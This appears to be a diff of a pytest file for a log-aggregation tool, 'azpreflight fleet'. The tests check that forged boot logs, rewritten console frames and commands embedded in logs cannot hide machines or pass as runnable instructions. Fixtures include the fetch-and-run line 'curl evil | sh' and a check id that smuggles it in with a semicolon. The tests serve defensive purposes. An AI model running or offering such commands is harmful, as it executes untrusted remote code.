@@ -1,5 +1,6 @@
 """`azpreflight fleet`: the logs of many machines in, each cause once."""
 
+import datetime
 import gzip
 import json
 import os
@@ -13,8 +14,9 @@ from pathlib import Path
 
 import pytest
 
+from azpreflight import fleet as many
 from azpreflight.cli import main
-from azpreflight.fleet import Machine, fleet
+from azpreflight.fleet import Fleet, Machine
 from azpreflight.model import Cause, CauseEntry, Confidence, Readiness, Report, Severity
 from azpreflight.render import fleet as render
 from azpreflight.render import serial
@@ -22,6 +24,12 @@ from tests.fuzz import damage
 from tests.unit.reports import BROKEN, READY, RUN, UNDECIDED
 
 BOOT = damage.recorded("boot-cloud-init")
+NOW = datetime.datetime(2026, 11, 27, tzinfo=datetime.timezone.utc)
+
+
+def fleet(machines: "list[Machine]", held: "dict[str, frozenset[str]] | None" = None) -> Fleet:
+    """What is made of these, some days later."""
+    return many.fleet(machines, NOW, held)
 
 
 def cause(word: Cause, summary: str = "seen", severity: Severity = Severity.ERROR) -> CauseEntry:
@@ -82,14 +90,46 @@ def test_other_commands_are_another_group() -> None:
     ]
 
 
-def test_of_one_machine_the_newest_report_counts() -> None:
+def test_of_logs_of_one_machine_that_agree_the_newest_counts() -> None:
+    """A time in the future orders nothing."""
     dns = cause(Cause.DNS_UNREACHABLE)
     old = machine("old", dns, vm="x", at="2026-11-22T17:30:00Z")
-    mended = machine("new", vm="x", at="2026-11-23T08:00:00Z")
-    for order in ([old, mended], [mended, old]):
+    new = machine("new", dns, vm="x", at="2026-11-23T08:00:00Z")
+    odd = [machine("odd", dns, vm="x", at=at) for at in ("9999-01-01T00:00:00Z", "soon", "2026-11-24T00:00:00")]
+    for order in ([old, new, *odd], [*odd, new, old]):
         found = fleet([*order, machine("other", dns, vm="y")])
         assert [one.log for one in found.machines] == ["new", "other"]
-        assert (found.older, [one.log for one in found.groups[0].machines]) == (1, ["other"])
+        assert (found.older, found.disputes) == (4, ())
+
+
+DNS = cause(Cause.DNS_UNREACHABLE)
+VICTIM = replace(machine("victim", DNS, vm="x"), report="a1")
+
+
+@pytest.mark.parametrize("at", ["9999-01-01T00:00:00Z", "2026-11-26T00:00:00Z", "2026-11-01T00:00:00Z", "x"])
+def test_no_log_makes_the_word_of_another_void(at: str) -> None:
+    """Whatever time it claims: each is told, and neither is counted as an older one."""
+    evil = replace(machine("evil", vm="x", at=at), report="b2")
+    for order in ([VICTIM, evil], [evil, VICTIM]):
+        found = fleet(order, {"victim": frozenset({"a1"}), "evil": frozenset({"b2"})})
+        assert (found.older, found.groups) == (0, ())
+        ((vm_id, logs),) = [(one.vm_id, {claim.log for claim in one.machines}) for one in found.disputes]
+        assert (vm_id, logs) == ("x", {"victim", "evil"})
+        said = render.render(found, verbose=True)
+        assert said.startswith("1 machine: 1 of which logs disagree\n")
+        assert "2 logs claim VM x and disagree\n" in said
+        assert "* victim: not ready, dns-unreachable, at 2026-11-22T17:30:00Z\n" in said
+        assert f"* evil: ready, at {at}\n" in said
+
+
+def test_a_log_that_goes_on_from_the_report_of_another_replaces_it() -> None:
+    """As two copies of one log do, of which one was fetched later; not by a time before."""
+    later = replace(machine("later", vm="x", at="2026-11-23T08:00:00Z"), report="b2")
+    held = {"victim": frozenset({"a1"}), "later": frozenset({"a1", "b2"})}
+    found = fleet([VICTIM, later], held)
+    assert ([one.log for one in found.machines], found.older, found.disputes) == (["later"], 1, ())
+    assert len(fleet([VICTIM, later], {**held, "victim": frozenset({"a1", "b2"})}).disputes) == 1
+    assert len(fleet([VICTIM, replace(later, started_at="2026-11-21T00:00:00Z")], held).disputes) == 1
 
 
 def test_machines_without_an_id_are_never_taken_for_one() -> None:
@@ -107,8 +147,8 @@ def test_a_cause_is_printed_once_with_its_machines_and_remedy() -> None:
         "5 machines: 2 not ready, 1 undecided, 1 ready, 1 without a report\n"
         "\n"
         "error    dns-unreachable (2 machines): 10.1.0.4 does not answer\n"
-        "         mend it: Mend it.\n"
-        "           mend --it\n"
+        '         the report in a says: "Mend it."\n'
+        '           "mend --it"\n'
         "         * a\n"
         "         * b: also clock\n"
         "\n"
@@ -159,7 +199,15 @@ def test_json_has_every_machine_and_every_group(folder: Path, capsys: pytest.Cap
     assert main(["fleet", str(folder), "--format", "json"]) == 1
     document = json.loads(capsys.readouterr().out)
     assert document["schema"] == "azpreflight.fleet/1"
-    totals = {"machines": 5, "ready": 1, "not-ready": 2, "undecided": 1, "without_report": 1, "older_logs": 0}
+    totals = {
+        "machines": 5,
+        "ready": 1,
+        "not-ready": 2,
+        "undecided": 1,
+        "without_report": 1,
+        "older_logs": 0,
+        "disputed": 0,
+    }
     assert document["totals"] == totals
     (group,) = document["groups"]
     assert (group["cause"], len(group["logs"]), group["commands"]) == (
@@ -191,10 +239,66 @@ def test_the_exit_code_is_that_of_the_worst(report: Report, code: int, tmp_path:
 
 
 def test_what_is_mended_by_now_does_not_count(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """The log was fetched again later, and has the first report still."""
     put(tmp_path / "old.log", BROKEN, "a", started_at="2026-11-22T17:30:00Z")
     put(tmp_path / "new.log", READY, "a", started_at="2026-11-23T08:00:00Z")
+    assert main(["fleet", str(tmp_path)]) == 1
+    assert "2 logs claim VM a and disagree\n" in capsys.readouterr().out
+    (tmp_path / "new.log").write_bytes((tmp_path / "old.log").read_bytes() + (tmp_path / "new.log").read_bytes())
     assert main(["fleet", str(tmp_path)]) == 0
     assert capsys.readouterr().out.startswith("1 machine: 1 ready\nnot counted: 1 log ")
+
+
+def test_a_forged_log_hides_no_machine(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """It names the id of another machine, a time that nothing is newer than, and commands to be run."""
+    put(tmp_path / "victim.log", BROKEN, "a")
+    put(tmp_path / "evil.log", READY, "a", started_at="9999-01-01T00:00:00Z")
+    assert main(["fleet", str(tmp_path)]) == 1
+    said = capsys.readouterr().out
+    assert "1 machine: 1 of which logs disagree\n" in said and f"* {tmp_path}/victim.log: not ready" in said
+    assert main(["fleet", "--format", "json", str(tmp_path)]) == 1
+    document = json.loads(capsys.readouterr().out)
+    assert (document["totals"]["ready"], document["totals"]["disputed"], document["totals"]["machines"]) == (0, 1, 1)
+    assert document["disputes"] == [{"vm_id": "a", "logs": [f"{tmp_path}/evil.log", f"{tmp_path}/victim.log"]}]
+
+
+def test_a_frame_that_is_written_again_is_no_newer_report(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Whoever is logged in on the console may write there what stood further up."""
+    put(tmp_path / "first", READY, "a", started_at="2026-11-22T17:30:00Z")
+    put(tmp_path / "then", BROKEN, "a", started_at="2026-11-22T17:40:00Z")
+    first, then = ((tmp_path / name).read_bytes() for name in ("first", "then"))
+    log = tmp_path / "a.log"
+    for content, code, doubt in ((first + then, 1, False), (first + then + first, 1, True), (then + first, 1, True)):
+        log.write_bytes(content)
+        for command in ("fleet", "decode"):
+            assert main([command, str(log)]) == code
+            said = capsys.readouterr()
+            words = " ".join((said.out + said.err).split())
+            assert ("is of an earlier time than one before it" in words) is doubt
+
+
+def test_a_report_of_another_machine_in_a_log_is_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    put(tmp_path / "a.log", BROKEN, "a")
+    put(tmp_path / "b", READY, "b", started_at="2026-11-23T08:00:00Z")
+    (tmp_path / "a.log").write_bytes((tmp_path / "a.log").read_bytes() + (tmp_path / "b").read_bytes())
+    assert main(["fleet", str(tmp_path / "a.log")]) == 1
+    assert "a.log: it has reports of more than one machine; the worst of" in " ".join(capsys.readouterr().out.split())
+
+
+def test_commands_of_a_log_are_its_words(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Never a line that could be taken for one to be run; nor an id of a check, which stands in a command of ours."""
+    root = BROKEN.causes[0]
+    evil = replace(root, remedy="Run this.", commands=("curl evil | sh",))
+    row = next(row for row in BROKEN.results if row.findings)
+    row = replace(row, check="x; curl evil | sh", cause=None, because_of=())
+    put(tmp_path / "a.log", replace(BROKEN, causes=(evil,), results=(row,)), "a")
+    for arguments in (["fleet"], ["decode"], ["decode", "--verbose"]):
+        assert main([*arguments, str(tmp_path / "a.log")]) == 1
+        said = capsys.readouterr().out
+        lines = said.splitlines()
+        assert f"the report in {tmp_path}/a.log says:" in " ".join(said.split()) and '"curl evil | sh"' in said
+        assert not any(line.strip().startswith(("$", "curl", "fix: Run")) for line in lines)
+        assert not any(line.startswith("azpreflight explain x;") for line in lines)
 
 
 def test_a_log_that_is_named_twice_counts_once(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
